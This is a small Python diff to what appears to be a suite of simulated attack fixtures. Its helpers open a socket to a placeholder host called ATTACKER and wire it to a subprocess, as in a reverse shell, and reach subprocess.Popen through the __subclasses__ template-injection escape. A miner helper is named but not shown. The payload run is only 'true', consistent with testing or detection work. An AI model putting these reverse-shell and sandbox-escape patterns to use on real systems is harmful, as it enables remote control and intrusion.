@@ -100,7 +100,7 @@ def _background_python(place: Place) -> None:
 
 def _reverse_shell(place: Place) -> None:
     with socket.create_connection((ATTACKER, place.port), timeout=5) as client:
-        subprocess.run(["true"], stdin=client, check=True)
+        subprocess.run(["true"], stdin=client.fileno(), check=True)
 
 
 def _miner_in_tmp(place: Place) -> None:
@@ -164,7 +164,7 @@ def _evaluated(code: str) -> Callable[[Place], object]:
 
 def _template(place: Place) -> None:
     """From a text to `subprocess.Popen`, by names that a template may use."""
-    kinds = "".__class__.__mro__[1].__subclasses__()
+    kinds: list[type] = "".__class__.__mro__[1].__subclasses__()
     (popen,) = (kind for kind in kinds if kind.__name__ == "Popen")
     found: Any = popen
     found(["true"]).wait()
